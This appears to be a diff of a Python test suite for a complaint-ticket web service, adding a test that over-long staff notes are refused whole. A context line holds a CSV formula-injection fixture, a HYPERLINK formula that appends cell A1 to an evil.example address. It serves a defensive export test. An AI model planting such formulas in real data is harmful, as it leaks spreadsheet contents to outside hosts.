@@ -163,6 +163,19 @@ async def test_a_note_keeps_no_control_characters(svc, browser) -> None:
     assert notes == ["cek lapangan besok"]
 
 
+async def test_a_text_longer_than_the_box_is_refused_whole_not_cut(svc, browser) -> None:
+    number = await file_complaint(browser, svc.url, "warga-long")
+    _, staff = await staff_session(browser, svc, "operator")
+    async with aiohttp.ClientSession() as http:
+        async with http.get(f"{svc.url}/desk/tiket/{number}", headers=bearer(staff)) as resp:
+            page = await resp.text()
+        csrf = page.split('name="csrf" value="', 1)[1].split('"', 1)[0]
+        async with http.post(f"{svc.url}/desk/tiket/{number}", headers=bearer(staff), allow_redirects=False,
+                             data={"action": "catatan", "text": "cek lapangan " * 500, "csrf": csrf}) as resp:
+            assert resp.status == 400 and "terlalu panjang" in await resp.text()
+    assert not [e for e in await svc.store.ticket_events(number) if e.text and "cek lapangan" in e.text]
+
+
 async def test_a_formula_for_a_name_is_text_in_the_csv_export(svc, browser) -> None:
     number = await file_complaint(browser, svc.url, "warga-csv")
     formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
